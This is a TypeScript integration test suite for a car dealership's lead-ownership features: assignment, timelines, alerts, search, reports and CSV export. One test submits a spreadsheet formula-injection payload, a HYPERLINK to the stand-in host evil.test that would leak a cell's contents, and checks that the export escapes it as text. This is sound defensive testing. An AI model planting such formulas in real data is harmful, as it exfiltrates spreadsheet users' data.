import { createModuleTestApp, insertBrand, insertCar, insertUser, tokenFor, truncateAll } from '@dealership/app-schema/testing';
import { leads } from '@dealership/lead-data';
import { outboxMessages } from '@dealership/message-data';
import type { DatabaseHandle } from '@dealership/server-db';
import { createTestDatabase } from '@dealership/server-db/testing';
import { users } from '@dealership/user-data';
import { createCallerFactory, type TrpcContext } from '@dealership/server-trpc';
import type { AuthUser } from '@dealership/shared-schemas';
import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import { and, asc, eq } from 'drizzle-orm';
import { LeadModule } from './lead.module';
import { LeadRouter } from './lead.router';
import { LeadService } from './lead.service';

/** Monday 30 November 2026 at `hhmm` in Nairobi (UTC+3): a weekday, the showroom open 08:00-17:00. */
const monday = (hhmm: string) => new Date(`2026-11-30T${hhmm}:00+03:00`);

// Leads that belong to someone (issue 28): round-robin assignment, the timeline, first response,
// the owner's reassignment and late alert, follow-up reminders, search, a buyer's own requests.
describe('lead ownership (integration, real database)', () => {
  let handle: DatabaseHandle;
  let app: NestFastifyApplication;
  let ip = 0;
  const people: Record<'owner' | 'amina' | 'baraka' | 'away' | 'gone' | 'buyer', AuthUser> = {} as never;
  const as = (user: AuthUser | null, sourcePage?: string) => createCallerFactory(app.get(LeadRouter).router)({ user, ip: `10.2.0.${++ip % 250}`, sourcePage } satisfies TrpcContext);
  const send = (name: string, user: AuthUser | null = null, extra: Record<string, unknown> = {}, sourcePage?: string) =>
    as(user, sourcePage).create({ kind: 'enquiry', name, phone: '0712 345 678', consent: true, message: `Is it available? (${name})`, ...extra });
  const lead = async (id: string) => (await handle.db.select().from(leads).where(eq(leads.id, id)))[0];
  const messages = (reference: string) =>
    handle.db
      .select({ topic: outboxMessages.topic, channel: outboxMessages.channel, recipient: outboxMessages.recipient, body: outboxMessages.bodyText })
      .from(outboxMessages)
      .where(eq(outboxMessages.reference, reference))
      .orderBy(asc(outboxMessages.createdAt));
  const staff = async (key: keyof typeof people, staffRole: 'owner' | 'sales' | null, fields: Record<string, unknown> = {}) => {
    const row = await insertUser(handle.db, {
      name: `${key[0].toUpperCase()}${key.slice(1)} Staff`,
      email: `${key}@dealer.test`,
      phone: '0722 000 111',
      role: staffRole ? 1 : 0,
      staffRole,
      ...fields,
    });
    people[key] = { id: row.id, name: row.name, email: row.email, role: staffRole ? 1 : 0, staffRole };
  };

  beforeAll(async () => {
    handle = await createTestDatabase();
    app = await createModuleTestApp(handle, [LeadModule], { env: { PUBLIC_URL: 'https://dealer.test' } });
  });
  beforeEach(async () => {
    await truncateAll(handle);
    await staff('owner', 'owner');
    await staff('amina', 'sales');
    await staff('baraka', 'sales');
    await staff('away', 'sales', { away: true });
    await staff('gone', 'sales', { deactivatedAt: new Date() });
    await staff('buyer', null);
  });
  afterAll(async () => {
    await app?.close();
    await handle?.close();
  });

  it('gives each new lead to the next active salesperson in turn, skipping those away or deactivated; the salesperson is told, the buyer told their name', async () => {
    const ids = [];
    for (const name of ['One', 'Two', 'Three', 'Four']) ids.push((await send(name)).id);
    const owners = await Promise.all(ids.map(async (id) => (await lead(id)).assigneeId));
    expect(new Set(owners.slice(0, 2))).toEqual(new Set([people.amina.id, people.baraka.id]));
    expect(owners[2]).toBe(owners[0]);
    expect(owners[3]).toBe(owners[1]);

    const told = await messages(ids[0]);
    const assignee = owners[0] === people.amina.id ? people.amina : people.baraka;
    expect(told.filter((m) => m.topic === 'lead.assigned').map((m) => `${m.channel} ${m.recipient}`).sort()).toEqual([`email ${assignee.email}`, 'sms +254722000111']);
    // Assigned: the staff alert goes to the owners (not every salesperson, not the deactivated one).
    expect(told.filter((m) => m.topic === 'lead.staff' && m.channel === 'email').map((m) => m.recipient)).toEqual([people.owner.email]);
    const buyerSms = told.find((m) => m.topic === 'lead.buyer' && m.channel === 'sms');
    expect(buyerSms?.body).toContain(`${assignee.name.split(' ')[0]}, your salesperson, will call you`);
    expect((await as(people.owner).timeline({ id: ids[0] })).map((e) => `${e.kind} ${e.body}`)).toEqual([`assigned ${assignee.name}`]);
  });

  it('with no salesperson available, leaves the lead in the pool and alerts every active staff member', async () => {
    await handle.db.update(users).set({ away: true }).where(eq(users.staffRole, 'sales'));
    const { id } = await send('Pooled');
    expect((await lead(id)).assigneeId).toBeNull();
    const alerted = (await messages(id)).filter((m) => m.topic === 'lead.staff' && m.channel === 'email').map((m) => m.recipient);
    expect(alerted.sort()).toEqual(['amina@dealer.test', 'away@dealer.test', 'baraka@dealer.test', 'owner@dealer.test']);
  });

  it('keeps a timeline: notes appended with author, status changes, calls; the first response is the first of them', async () => {
    const { id } = await send('Timeline');
    const seller = (await lead(id)).assigneeId === people.amina.id ? people.amina : people.baraka;
    await as(seller).addNote({ id, body: 'Wants a Prado in white' });
    await as(seller).addNote({ id, body: 'Budget 4.5 million' });
    expect((await lead(id)).firstResponseAt).toBeNull();
    await as(seller).logContact({ id, channel: 'call', body: 'No answer' });
    const first = (await lead(id)).firstResponseAt;
    expect(first).not.toBeNull();
    await as(seller).setStatus({ id, status: 'Contacted', note: 'Called back, viewing Saturday' });
    expect((await lead(id)).firstResponseAt).toEqual(first);
    const timeline = await as(people.owner).timeline({ id });
    expect(timeline.map((e) => `${e.kind}|${e.author}|${e.body}`)).toEqual([
      `assigned|null|${seller.name}`,
      `note|${seller.name}|Wants a Prado in white`,
      `note|${seller.name}|Budget 4.5 million`,
      `call|${seller.name}|No answer`,
      `status|${seller.name}|Contacted`,
      `note|${seller.name}|Called back, viewing Saturday`,
    ]);
    const [shown] = (await as(seller).list({ search: 'Timeline' })).items;
    expect(shown).toMatchObject({ firstResponseAt: first?.toISOString(), note: 'Called back, viewing Saturday', assignee: { id: seller.id, name: seller.name } });
  });

  it('lets an owner reassign (the new salesperson is told), refuses a salesperson and a non-staff assignee, and returns a deactivated salesperson\'s open leads to the pool', async () => {
    const { id } = await send('Reassigned');
    const other = (await lead(id)).assigneeId === people.amina.id ? people.baraka : people.amina;
    await expect(as(other).assign({ id, assigneeId: other.id })).rejects.toMatchObject({ code: 'FORBIDDEN' });
    await expect(as(people.owner).assign({ id, assigneeId: people.buyer.id })).rejects.toMatchObject({ code: 'BAD_REQUEST', message: 'assigneeId must be an active staff member' });
    expect(await as(people.owner).assign({ id, assigneeId: other.id })).toMatchObject({ assignee: { id: other.id } });
    expect((await messages(id)).filter((m) => m.topic === 'lead.assigned' && m.recipient === other.email)).toHaveLength(1);

    const won = (await send('Already won')).id;
    await as(people.owner).assign({ id: won, assigneeId: other.id });
    await as(other).setStatus({ id: won, status: 'Won' });
    await handle.db.update(users).set({ deactivatedAt: new Date() }).where(eq(users.id, other.id));
    expect((await lead(id)).assigneeId).toBeNull();
    expect((await lead(won)).assigneeId).toBe(other.id);
  });

  it('finds leads by name, phone as typed, or car, and filters by assignee, pool and age', async () => {
    const brand = await insertBrand(handle.db, { name: 'Toyota' });
    const prado = await insertCar(handle.db, { brandId: brand.id, name: 'Toyota Land Cruiser Prado' });
    const a = await send('Zawadi Mwangi', null, { carId: prado.id });
    const b = await send('Omar Ali', null, { phone: '0733 111 222' });
    const search = async (text: string) => (await as(people.owner).list({ search: text })).items.map((l) => l.name);
    expect(await search('zawadi')).toEqual(['Zawadi Mwangi']);
    expect(await search('0733 111')).toEqual(['Omar Ali']);
    expect(await search('cruiser')).toEqual(['Zawadi Mwangi']);
    const mineOf = async (user: AuthUser) => (await as(user).list({ assignee: 'mine' })).items.map((l) => l.id).sort();
    expect([...(await mineOf(people.amina)), ...(await mineOf(people.baraka))].sort()).toEqual([a.id, b.id].sort());
    await as(people.owner).assign({ id: a.id, assigneeId: null });
    expect((await as(people.owner).list({ assignee: 'pool' })).items.map((l) => l.id)).toEqual([a.id]);
    await handle.db.update(leads).set({ createdAt: new Date(Date.now() - 40 * 86_400_000) }).where(eq(leads.id, b.id));
    expect((await as(people.owner).list({ age: 'older' })).items.map((l) => l.id)).toEqual([b.id]);
    expect((await as(people.owner).list({ age: 'today' })).items.map((l) => l.id)).toEqual([a.id]);
    await expect(as(people.owner).list({ search: 'x'.repeat(101) })).rejects.toMatchObject({ code: 'BAD_REQUEST' });
  });

  it('alerts the owners once when a New lead has waited 15 minutes of opening hours without a response', async () => {
    const waiting = (await send('Waiting')).id;
    const answered = (await send('Answered')).id;
    await handle.db.update(leads).set({ createdAt: monday('09:00') }).where(eq(leads.id, waiting));
    await handle.db.update(leads).set({ createdAt: monday('09:00') }).where(eq(leads.id, answered));
    await as(people.owner).logContact({ id: answered, channel: 'message' });
    const service = app.get(LeadService);
    expect(await service.alertLateLeads(monday('09:10'))).toEqual([]);
    expect(await service.alertLateLeads(monday('09:16'))).toEqual([waiting]);
    expect(await service.alertLateLeads(monday('09:30'))).toEqual([]);
    const late = (await messages(waiting)).filter((m) => m.topic === 'lead.late');
    expect(late.map((m) => `${m.channel} ${m.recipient}`)).toEqual(expect.arrayContaining([`email ${people.owner.email}`]));
    expect(late.some((m) => m.recipient === people.amina.email || m.recipient === people.baraka.email)).toBe(false);
  });

  it('reminds the assignee on the morning of a follow-up, once', async () => {
    const { id } = await send('Follow me');
    const seller = (await lead(id)).assigneeId === people.amina.id ? people.amina : people.baraka;
    await as(seller).setFollowUp({ id, on: '2026-11-30' });
    const service = app.get(LeadService);
    expect(await service.remindFollowUps(monday('07:30'))).toEqual([]);
    expect(await service.remindFollowUps(monday('08:05'))).toEqual([id]);
    expect(await service.remindFollowUps(monday('10:00'))).toEqual([]);
    expect((await messages(id)).filter((m) => m.topic === 'lead.follow-up').map((m) => m.recipient)).toEqual(expect.arrayContaining([seller.email]));
    expect((await as(seller).timeline({ id })).at(-1)).toMatchObject({ kind: 'follow-up', body: '2026-11-30' });
  });

  it("ties a signed-in buyer's request to their account: their dashboard lists it with the status and their salesperson", async () => {
    const { id } = await send('Signed In Buyer', people.buyer);
    await send('Someone else');
    const seller = (await lead(id)).assigneeId === people.amina.id ? people.amina : people.baraka;
    await as(seller).setStatus({ id, status: 'Contacted' });
    expect(await as(people.buyer).mine()).toEqual([{ id, kind: 'enquiry', status: 'Contacted', car: null, salesperson: seller.name, createdAt: expect.any(String) }]);
    await expect(as(null).mine()).rejects.toMatchObject({ code: 'UNAUTHORIZED' });
    expect((await handle.db.select({ id: leads.id }).from(leads).where(and(eq(leads.buyerId, people.buyer.id)))).map((r) => r.id)).toEqual([id]);
  });

  it("gives the owner the leads' figures (per week by kind and by source page, response times per salesperson, conversion) and the list as CSV that Excel opens", async () => {
    const one = (await send('Wanjiku "Shiru" Kamau, Jr', null, {}, '/car/toyota-prado-2019')).id;
    const two = (await send('Otieno', null, {}, '/car/nissan-note-2018')).id;
    await send('Achieng', null, {}, '/financing');
    await send('Kazungu');
    const seller = (await lead(one)).assigneeId === people.amina.id ? people.amina : people.baraka;
    await handle.db.update(leads).set({ createdAt: new Date(Date.now() - 20 * 60_000) }).where(eq(leads.id, one));
    await as(seller).logContact({ id: one, channel: 'call' });
    await as(people.owner).setStatus({ id: two, status: 'Won' });

    const report = await as(people.owner).report();
    expect(report.perWeek.reduce((sum, row) => sum + row.count, 0)).toBe(4);
    // A car's pages count as one source; a lead whose browser named no page is counted too.
    // Summed over the weeks: a lead moved 20 minutes back lands in last week when the test runs just after Monday 00:00 (Nairobi).
    const bySource: Record<string, number> = {};
    for (const row of report.perSource) bySource[String(row.source)] = (bySource[String(row.source)] ?? 0) + row.count;
    expect(bySource).toEqual({ '/car/*': 2, '/financing': 1, null: 1 });
    expect(report.perWeek.every((row) => row.kind === 'enquiry' && /^\d{4}-\d{2}-\d{2}$/.test(row.week))).toBe(true);
    const mine = report.responseTimes.find((row) => row.assignee === seller.name);
    expect(mine).toMatchObject({ leads: 2, answered: 1 });
    expect(mine?.medianMinutes).toBeGreaterThanOrEqual(19);
    expect(report.conversion.reduce((sum, row) => sum + row.won, 0)).toBe(1);
    await expect(as(seller).report()).rejects.toMatchObject({ code: 'FORBIDDEN' });

    const res = await app.inject({ method: 'GET', url: '/api/leads/export.csv?search=Wanjiku', headers: { authorization: `Bearer ${await tokenFor(app, people.owner.id)}` } });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const lines = res.body.replace(/^\uFEFF/, '').trim().split('\n');
    expect(lines[0]).toBe('Received,Kind,Status,Name,Phone,Email,Car,Assignee,First response,Follow up on,Message,Latest note,Source page');
    expect(lines).toHaveLength(2);
    expect(lines[1]).toMatch(/,\/car\/toyota-prado-2019$/);
    // A phone's + (like any cell a spreadsheet would run as a formula) is kept as text.
    expect(lines[1]).toContain(`,Enquiry,New,"Wanjiku ""Shiru"" Kamau, Jr",'+254712345678,`);
    expect(lines[1]).toContain(`,${seller.name},`);
    // A visitor's formula is text in the owner's spreadsheet, never a live link.
    await send('=HYPERLINK("https://evil.test/?"&E2,"Open")', null, { message: '@SUM(1+1)', email: 'x@example.test' });
    const hostile = await app.inject({ method: 'GET', url: '/api/leads/export.csv?search=HYPERLINK', headers: { authorization: `Bearer ${await tokenFor(app, people.owner.id)}` } });
    const [, row] = hostile.body.replace(/^\uFEFF/, '').trim().split('\n');
    expect(row).toContain(`,"'=HYPERLINK(""https://evil.test/?""&E2,""Open"")",'+254712345678,x@example.test,`);
    expect(row).toContain(",'@SUM(1+1),");
    const refused = await app.inject({ method: 'GET', url: '/api/leads/export.csv', headers: { authorization: `Bearer ${await tokenFor(app, seller.id)}` } });
    expect(refused.statusCode).toBe(403);
  });
});
